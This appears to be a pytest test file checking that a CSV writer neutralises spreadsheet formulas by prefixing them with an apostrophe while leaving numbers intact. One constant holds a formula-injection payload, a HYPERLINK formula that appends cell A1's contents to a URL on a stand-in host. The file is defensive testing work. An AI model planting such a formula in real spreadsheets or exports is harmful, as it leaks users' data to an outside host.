"""No cell of a table is a formula, from any writer, and numbers stay numbers."""

import csv
import io

import pytest

from tennis.rally.cells import FORMULA, csv_of

LIVE = '=HYPERLINK("http://example.org/?"&A1;"look")'


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("sign", FORMULA)
def test_no_row_holds_a_formula(sign):
    (row,) = cells(csv_of([[f"{sign}1+1", f" {sign}1+1", "a", -1.5, "-"]]))
    assert [cell[:1] for cell in row[:2]] == ["'", "'"]
    assert row[2:] == ["a", "-1.5", "-"]
